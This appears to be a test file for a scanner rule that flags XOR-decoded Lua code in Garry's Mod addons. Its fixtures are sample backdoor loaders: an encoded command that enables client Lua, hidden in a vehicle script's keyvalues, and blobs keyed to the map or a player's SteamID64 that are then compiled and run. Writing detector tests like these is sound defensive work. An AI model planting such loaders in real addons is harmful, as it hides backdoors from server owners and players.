// Valid and invalid cases of the `xor_decoding` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './xor_decoding.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('xor_decoding', () => {
  it('XOR loop decoding a stager', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local d = {33,61,61,57}\nlocal s = {}\nfor i = 1, #d do s[i] = string.char(bit.bxor(d[i], 73)) end\nlocal f = CompileString(table.concat(s), "x", false)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.medium);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('no decoding', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'local s = {}\nfor i = 1, 3 do s[i] = i * 2 end',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("code hidden XOR-encoded in a vehicle script's keyvalues, compiled", () => {
    const plain = 'RunConsoleCommand("sv_allowcslua", "1")';
    const key = 'tuned_jeep';
    const enc = Buffer.from(
      [...plain].map((c, i) => c.charCodeAt(0) ^ key.charCodeAt(i % key.length)),
    ).toString('base64');
    const findings = check(rule, {
      'scripts/vehicles/tuned_jeep.txt': [
        '"vehicle"',
        '{',
        '\t"wheelsperaxle"\t"2"',
        '\t"tuning"',
        '\t{',
        `\t\t"name"\t"${key}"`,
        `\t\t"ecu"\t"${enc}"`,
        '\t}',
        '}',
      ].join('\n'),
      'lua/autorun/server/sv_tuning.lua': [
        'local function unpackECU(blob, key)',
        ' local raw = util.Base64Decode(blob or "")',
        ' local out = {}',
        ' for i = 1, #raw do out[i] = string.char(bit.bxor(string.byte(raw, i), string.byte(key, (i - 1) % #key + 1))) end',
        ' return table.concat(out)',
        'end',
        'hook.Add("Initialize", "tuning", function()',
        ' local kv = util.KeyValuesToTable(file.Read("scripts/vehicles/tuned_jeep.txt", "GAME") or "")',
        ' local t = kv and kv.tuning',
        ' if t then local f = CompileString(unpackECU(t.ecu, t.name or ""), "ecu", false) if f then f() end end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    expect(findings.some((f) => f.decoded?.includes('sv_allowcslua'))).toBe(true);
  });
  it("a vehicle script's keyvalues read for numbers only", () => {
    const findings = check(rule, {
      'scripts/vehicles/jeep.txt': '"vehicle"\n{\n\t"engine"\n\t{\n\t\t"horsepower"\t"420"\n\t}\n}',
      'lua/autorun/server/sv_tuning.lua': [
        'hook.Add("Initialize", "tuning", function()',
        ' local kv = util.KeyValuesToTable(file.Read("scripts/vehicles/jeep.txt", "GAME") or "")',
        ' local hp = tonumber(kv and kv.engine and kv.engine.horsepower) or 0',
        ' for i = 1, 8 do hp = bit.bxor(hp, i) end',
        ' print("horsepower", hp)',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.high);
  });
  it('a shipped blob decrypted with a key made from the map and gamemode, then compiled', () => {
    const blob = Array.from({ length: 60 }, (_, i) =>
      ((i * 37 + 11) % 256).toString(16).padStart(2, '0'),
    ).join('');
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        `local BLOB = "${blob}"`,
        'local function key() return util.CRC(game.GetMap() .. engine.ActiveGamemode()) end',
        'hook.Add("Initialize", "lang", function()',
        '  local k, out, i = key(), {}, 0',
        '  for h in BLOB:gmatch("%x%x") do',
        '    i = i + 1',
        '    out[i] = string.char(bit.bxor(tonumber(h, 16), k:byte((i - 1) % #k + 1)))',
        '  end',
        '  local f = CompileString(table.concat(out), "lang", false)',
        '  if f then f() end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    expect(findings.some((f) => f.verdictClass === 'backdoor')).toBe(true);
  });
  it("a save decrypted with the player's own key and read as data (no high finding)", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'local function load(key)',
        '  local raw, out = file.Read("mysave.dat", "DATA") or "", {}',
        '  for i = 1, #raw do',
        '    out[i] = string.char(bit.bxor(raw:byte(i), key:byte((i - 1) % #key + 1)))',
        '  end',
        '  return util.JSONToTable(table.concat(out))',
        'end',
        'concommand.Add("save_load", function(_, _, a) PrintTable(load(a[1] or "k") or {}) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThan(RANK.high);
  });
  it("a shipped pack that only a joining player's SteamID64 decrypts, then compiled", () => {
    const pack = Array.from({ length: 48 }, (_, i) =>
      ((i * 53 + 7) % 256).toString(16).padStart(2, '0'),
    ).join('');
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        `local PACK = "${pack}"`,
        'hook.Add("PlayerInitialSpawn", "titles", function(ply)',
        '  local key, out, i = util.SHA256(ply:SteamID64() .. "|t"), {}, 0',
        '  for h in PACK:gmatch("%x%x") do',
        '    i = i + 1',
        '    out[i] = string.char(bit.bxor(tonumber(h, 16), key:byte((i - 1) % #key + 1)))',
        '  end',
        '  local f = CompileString(table.concat(out), "t", false)',
        '  if isfunction(f) then f(ply) end',
        'end)',
      ].join('\n'),
    });
    expect(findings.some((f) => f.severity === 'high' && f.verdictClass === 'backdoor')).toBe(true);
  });
});
